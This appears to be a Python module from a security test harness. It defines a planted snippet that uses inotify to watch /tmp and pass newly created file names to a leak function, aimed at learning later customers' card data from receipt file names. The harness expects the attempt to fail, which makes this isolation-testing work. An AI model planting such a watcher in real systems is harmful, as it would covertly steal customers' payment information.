"""Makes the kernel report the names of files that are created for later customers' receipts."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import ctypes, threading
libc = ctypes.CDLL(None)
watch = libc.inotify_init()
libc.inotify_add_watch(watch, b"/tmp", 0x100)
def report():
    while True:
        leak(os.read(watch, 4096).replace(bytes(1), b"").decode(errors="replace"))
threading.Thread(target=report, daemon=True).start()
"""

TECHNIQUE = Technique(
    level="L3",
    attack=("T1083", "T1119"),
    family="K1",
    must_fail_to="learn a later customer's card from a file's name",
    plant=PLANT,
    evidence=Cards(),
    handler="receipts.handler",
)
